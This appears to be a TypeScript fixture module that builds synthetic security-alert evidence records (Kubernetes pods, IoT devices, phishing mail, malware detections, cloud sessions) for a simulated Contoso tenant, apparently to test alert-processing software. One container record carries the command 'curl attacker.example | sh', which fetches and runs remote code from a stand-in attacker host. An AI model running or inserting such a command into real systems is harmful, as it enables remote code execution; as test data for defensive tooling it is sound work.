import {
  deviceEvidence,
  evidence,
  fileEvidence,
  ipEvidence,
  processEvidence,
  urlEvidence,
  userEvidence,
} from './evidence.js';
import { offices } from './people.js';
import { type Scene, shortlyBefore } from './scene.js';
import type { Row } from './Tenant.js';

/** Kinds of evidence that an ordinary tenant shows seldom. Each alert template names those that it can carry. */
export type RareKind = keyof typeof builders;

export function rareEvidence(kind: RareKind, scene: Scene): Row {
  return builders[kind](scene);
}

const subscription = '/subscriptions/5c0fd3ab-5b5d-4c2d-9a1c-3c2f3d1f7a10/resourceGroups/rg-shop';

const builders = {
  activeDirectoryDomain: (scene: Scene) =>
    evidence('activeDirectoryDomain', scene.affected, {
      activeDirectoryDomainName: 'corp.contoso.com',
      trustedDomains: [
        evidence('activeDirectoryDomain', scene.affected, {
          activeDirectoryDomainName: 'emea.corp.contoso.com',
          trustedDomains: [],
        }),
      ],
    }),
  aiAgent: (scene: Scene) =>
    evidence('aiAgent', scene.affected, {
      agentId: scene.attack.oauthApp.objectId,
      agentName: 'Expense Assistant',
      hostingPlatformType: 'copilotStudio',
      instructions: 'Answer questions about travel expenses.',
    }),
  amazonResource: (scene: Scene) =>
    evidence('amazonResource', scene.affected, {
      amazonAccountId: '112233445566',
      amazonResourceId: 'arn:aws:ec2:eu-west-1:112233445566:instance/i-0a1b2c3d4e5f60718',
      resourceName: 'web-frontend',
      resourceType: 'AWS EC2 Instance',
    }),
  blob,
  blobContainer,
  cloudLogonRequest: (scene: Scene) => evidence('cloudLogonRequest', scene.hostile, { requestId: scene.random.guid() }),
  cloudLogonSession: (scene: Scene) =>
    evidence('cloudLogonSession', scene.hostile, {
      account: userEvidence(scene.affected, scene.victim.account),
      browser: 'Chrome 131',
      deviceName: null,
      operatingSystem: 'Linux',
      previousLogonDateTime: shortlyBefore(scene, 90),
      protocol: 'OAuth2:Authorize',
      sessionId: scene.random.guid(),
      startUtcDateTime: shortlyBefore(scene, 6),
      userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0',
    }),
  container,
  containerImage,
  containerRegistry,
  dns: (scene: Scene) =>
    evidence('dns', scene.hostile, {
      dnsServerIp: ipEvidence(scene.affected, '10.20.0.53', scene.victim.place),
      domainName: new URL(scene.attack.lureUrl).hostname,
      hostIpAddress: ipEvidence(scene.affected, '10.20.4.17', scene.victim.place),
      ipAddresses: [ipEvidence(scene.hostile, scene.attack.attackerIp, scene.attack.attackerPlace)],
    }),
  fileHash: (scene: Scene) =>
    evidence('fileHash', scene.hostile, { algorithm: 'sha256', value: scene.attack.file.sha256 }),
  gitHubOrganization: (scene: Scene) =>
    evidence('gitHubOrganization', scene.affected, {
      company: 'Contoso',
      displayName: 'Contoso Engineering',
      email: 'github-admins@contoso.example',
      login: 'contoso-eng',
      orgId: '40178213',
      webUrl: 'https://github.example/contoso-eng',
    }),
  gitHubRepo: (scene: Scene) =>
    evidence('gitHubRepo', scene.affected, {
      baseUrl: 'https://github.example/contoso-eng/shop',
      login: 'contoso-eng',
      owner: 'contoso-eng',
      ownerType: 'Organization',
      repoId: '718281828',
    }),
  gitHubUser: (scene: Scene) =>
    evidence('gitHubUser', scene.affected, {
      email: scene.victim.upn,
      login: scene.victim.accountName.toLowerCase(),
      name: scene.victim.displayName,
      userId: '5772156',
      webUrl: `https://github.example/${scene.victim.accountName.toLowerCase()}`,
    }),
  googleCloudResource: (scene: Scene) =>
    evidence('googleCloudResource', scene.affected, {
      fullResourceName: '//compute.googleapis.com/projects/contoso-shop/zones/europe-west3-a/instances/batch-1',
      location: 'europe-west3-a',
      locationType: 'zonal',
      projectId: 'contoso-shop',
      projectNumber: 314_159_265_358,
      resourceName: 'batch-1',
      resourceType: 'VM instance',
    }),
  hostLogonSession: (scene: Scene) =>
    evidence('hostLogonSession', scene.affected, {
      account: userEvidence(scene.affected, scene.victim.account),
      endUtcDateTime: null,
      host: deviceEvidence(scene.affected, scene.machine, 'medium'),
      sessionId: '0x3e7a51',
      startUtcDateTime: shortlyBefore(scene, 45),
    }),
  ioTDevice: (scene: Scene) =>
    evidence('ioTDevice', scene.affected, {
      deviceId: scene.random.guid(),
      deviceName: 'PLC-PACKING-3',
      devicePageLink: 'https://portal.contoso.example/iot/plc-packing-3',
      deviceSubType: 'PLC',
      deviceType: 'Industrial',
      importance: 'high',
      ioTHub: azureResource(scene, 'Microsoft.Devices/IotHubs', 'iothub-packing'),
      ioTSecurityAgentId: null,
      ipAddress: ipEvidence(scene.affected, '10.60.3.21', offices[2] ?? scene.victim.place),
      isAuthorized: true,
      isProgramming: false,
      isScanner: false,
      macAddress: '00-00-5E-00-53-21',
      manufacturer: 'Fabrikam',
      model: 'S7',
      nics: [nic(scene)],
      operatingSystem: 'Firmware 4.5',
      owners: ['operations@contoso.example'],
      protocols: ['Modbus', 'S7comm'],
      purdueLayer: 'ProcessControl',
      sensor: 'sensor-munich-1',
      serialNumber: 'FK-88121',
      site: 'Munich plant',
      source: 'Agentless',
      sourceRef: urlEvidence(scene.affected, 'https://portal.contoso.example/iot/sensor-munich-1'),
      zone: 'Packing',
    }),
  kubernetesCluster,
  kubernetesController,
  kubernetesNamespace,
  kubernetesPod,
  kubernetesSecret: (scene: Scene) =>
    evidence('kubernetesSecret', scene.affected, {
      name: 'payment-gateway-key',
      namespace: kubernetesNamespace(scene),
      secretType: 'Opaque',
    }),
  kubernetesService: (scene: Scene) =>
    evidence('kubernetesService', scene.affected, {
      clusterIP: ipEvidence(scene.affected, '10.0.114.9', scene.victim.place),
      externalIPs: [ipEvidence(scene.affected, '203.0.113.80', scene.victim.place)],
      labels: { app: 'checkout' },
      name: 'checkout',
      namespace: kubernetesNamespace(scene),
      selector: { app: 'checkout' },
      servicePorts: [
        { appProtocol: 'http', name: 'web', nodePort: 31_080, port: 80, protocol: 'tcp', targetPort: '8080' },
      ],
      serviceType: 'loadBalancer',
    }),
  kubernetesServiceAccount,
  mailboxConfiguration: (scene: Scene) =>
    evidence('mailboxConfiguration', scene.hostile, {
      configurationId: scene.random.hex(16),
      configurationType: 'userInboxRule',
      displayName: '..',
      externalDirectoryObjectId: scene.victim.id,
      mailboxPrimaryAddress: scene.victim.upn,
      upn: scene.victim.upn,
    }),
  mailCluster: (scene: Scene) =>
    evidence('mailCluster', scene.hostile, {
      clusterBy: 'Subject;P2SenderDomain',
      clusterByValue: 'Payment overdue;tailspin-invoices.example',
      emailCount: 14,
      networkMessageIds: [scene.random.guid(), scene.random.guid()],
      query: '((NormalizedUrl : "*") AND (ContentType : 1))',
      urn: `urn:MailClusterEntity:${scene.random.hex(16)}`,
    }),
  malware: (scene: Scene) =>
    evidence('malware', scene.hostile, {
      category: 'Trojan',
      files: [fileEvidence(scene.hostile, scene.machine, scene.attack.file, 'detected')],
      name: 'Trojan:Win32/Kettlewell.B',
      processes: [
        processEvidence(scene.hostile, scene.machine, {
          image: scene.attack.file,
          parent: scene.attack.file,
          commandLine: scene.attack.file.fileName,
          processId: 4412,
          parentProcessId: 912,
          startedDateTime: shortlyBefore(scene, 4),
          detectionStatus: 'detected',
          account: scene.victim.account,
        }),
      ],
    }),
  networkConnection: (scene: Scene) =>
    evidence('networkConnection', scene.hostile, {
      destinationAddress: ipEvidence(scene.hostile, scene.attack.attackerIp, scene.attack.attackerPlace),
      destinationPort: 443,
      protocol: 'tcp',
      sourceAddress: ipEvidence(scene.affected, '10.20.4.17', scene.victim.place),
      sourcePort: 51_022,
    }),
  nic,
  sasToken: (scene: Scene) =>
    evidence('sasToken', scene.hostile, {
      allowedIpAddresses: '0.0.0.0-255.255.255.255',
      allowedResourceTypes: ['container', 'object'],
      allowedServices: ['blob'],
      expiryDateTime: '2031-01-01T00:00:00Z',
      permissions: ['read', 'list'],
      protocol: 'https',
      signatureHash: scene.random.hex(64),
      signedWith: 'key1',
      startDateTime: shortlyBefore(scene, 600),
      storageResource: azureResource(scene, 'Microsoft.Storage/storageAccounts', 'stshopbackup'),
    }),
  securityGroup: (scene: Scene) =>
    evidence('securityGroup', scene.affected, {
      activeDirectoryObjectGuid: scene.random.guid(),
      displayName: 'Domain Admins',
      distinguishedName: 'CN=Domain Admins,CN=Users,DC=corp,DC=contoso,DC=com',
      friendlyName: 'Domain Admins',
      securityGroupId: scene.random.guid(),
      sid: 'S-1-5-21-1721254763-462695806-1538882281-512',
    }),
  servicePrincipal: (scene: Scene) =>
    evidence('servicePrincipal', scene.hostile, {
      appId: scene.attack.oauthApp.appId,
      appOwnerTenantId: scene.random.guid(),
      servicePrincipalName: scene.attack.oauthApp.displayName,
      servicePrincipalObjectId: scene.attack.oauthApp.objectId,
      servicePrincipalType: 'application',
      tenantId: scene.tenantId,
    }),
  submissionMail: (scene: Scene) =>
    evidence('submissionMail', scene.hostile, {
      networkMessageId: scene.random.guid(),
      recipient: scene.victim.upn,
      reportType: 'Phish',
      sender: scene.attack.sender,
      senderIp: scene.attack.attackerIp,
      subject: 'Payment overdue',
      submissionDateTime: shortlyBefore(scene, 3),
      submissionId: scene.random.guid(),
      submitter: scene.victim.upn,
    }),
  teamsMessage: (scene: Scene) =>
    evidence('teamsMessage', scene.hostile, {
      campaignId: null,
      channelId: '19:9f1c6e3d2b@thread.tacv2',
      deliveryAction: 'delivered',
      deliveryLocation: 'teams',
      files: [],
      groupId: scene.random.guid(),
      isExternal: true,
      isOwned: false,
      lastModifiedDateTime: shortlyBefore(scene, 10),
      messageDirection: 'inbound',
      messageId: String(Math.floor(scene.atMs)),
      owningTenantId: scene.random.guid(),
      parentMessageId: null,
      receivedDateTime: shortlyBefore(scene, 10),
      recipients: [scene.victim.upn],
      senderFromAddress: scene.attack.sender,
      senderIP: scene.attack.attackerIp,
      sourceAppName: 'Microsoft Teams',
      sourceId: null,
      subject: null,
      suspiciousRecipients: [],
      threadId: '19:9f1c6e3d2b@thread.tacv2',
      threadType: 'chat',
      urls: [urlEvidence(scene.hostile, scene.attack.lureUrl)],
    }),
} satisfies Record<string, (scene: Scene) => Row>;

/** Every kind that {@link rareEvidence} can build. */
export const rareKinds = Object.keys(builders) as RareKind[];

/** A kind that no published schema knows, as a newer service would send it. */
export function unknownEvidence(scene: Scene): Row {
  return evidence('quantumVault', scene.affected, {
    vaultName: 'vault-7',
    entanglement: { pairs: 12, owner: scene.victim.upn },
  });
}

function azureResource(scene: Scene, resourceType: string, resourceName: string): Row {
  return evidence('azureResource', scene.affected, {
    resourceId: `${subscription}/providers/${resourceType}/${resourceName}`,
    resourceName,
    resourceType,
  });
}

function nic(scene: Scene): Row {
  return evidence('nic', scene.affected, {
    ipAddress: ipEvidence(scene.affected, '10.60.3.21', scene.victim.place),
    macAddress: '00-00-5E-00-53-22',
    vlans: ['120'],
  });
}

function blobContainer(scene: Scene): Row {
  return evidence('blobContainer', scene.affected, {
    name: 'exports',
    storageResource: azureResource(scene, 'Microsoft.Storage/storageAccounts', 'stshopbackup'),
    url: 'https://stshopbackup.blob.core.example/exports',
  });
}

function blob(scene: Scene): Row {
  return evidence('blob', scene.affected, {
    blobContainer: blobContainer(scene),
    etag: '0x8DD0A1B2C3D4E5F',
    fileHashes: [{ algorithm: 'md5', value: scene.attack.file.md5 }],
    name: 'customers.csv',
    url: 'https://stshopbackup.blob.core.example/exports/customers.csv',
  });
}

function containerRegistry(scene: Scene): Row {
  return evidence('containerRegistry', scene.affected, { registry: 'contososhop.azurecr.example' });
}

function containerImage(scene: Scene): Row {
  return evidence('containerImage', scene.affected, {
    digestImage: null,
    imageId: `contososhop.azurecr.example/checkout@sha256:${scene.attack.file.sha256}`,
    registry: containerRegistry(scene),
  });
}

function container(scene: Scene): Row {
  return evidence('container', scene.affected, {
    args: ['-c', 'curl attacker.example | sh'],
    command: ['/bin/sh'],
    containerId: scene.attack.file.sha256,
    image: containerImage(scene),
    isPrivileged: true,
    name: 'checkout',
    pod: null,
  });
}

function kubernetesCluster(scene: Scene): Row {
  return evidence('kubernetesCluster', scene.affected, {
    cloudResource: azureResource(scene, 'Microsoft.ContainerService/managedClusters', 'aks-shop'),
    distribution: 'AKS',
    name: 'aks-shop',
    platform: 'aks',
    version: '1.31.2',
  });
}

function kubernetesNamespace(scene: Scene): Row {
  return evidence('kubernetesNamespace', scene.affected, {
    cluster: kubernetesCluster(scene),
    labels: { team: 'shop' },
    name: 'checkout',
  });
}

function kubernetesController(scene: Scene): Row {
  return evidence('kubernetesController', scene.affected, {
    labels: { app: 'checkout' },
    name: 'checkout',
    namespace: kubernetesNamespace(scene),
    type: 'Deployment',
  });
}

function kubernetesServiceAccount(scene: Scene): Row {
  return evidence('kubernetesServiceAccount', scene.affected, {
    name: 'checkout-runner',
    namespace: kubernetesNamespace(scene),
  });
}

function kubernetesPod(scene: Scene): Row {
  return evidence('kubernetesPod', scene.affected, {
    containers: [container(scene)],
    controller: kubernetesController(scene),
    ephemeralContainers: [],
    initContainers: [],
    labels: { app: 'checkout' },
    name: 'checkout-7d9f5',
    namespace: kubernetesNamespace(scene),
    podIp: ipEvidence(scene.affected, '10.244.3.12', scene.victim.place),
    serviceAccount: kubernetesServiceAccount(scene),
  });
}
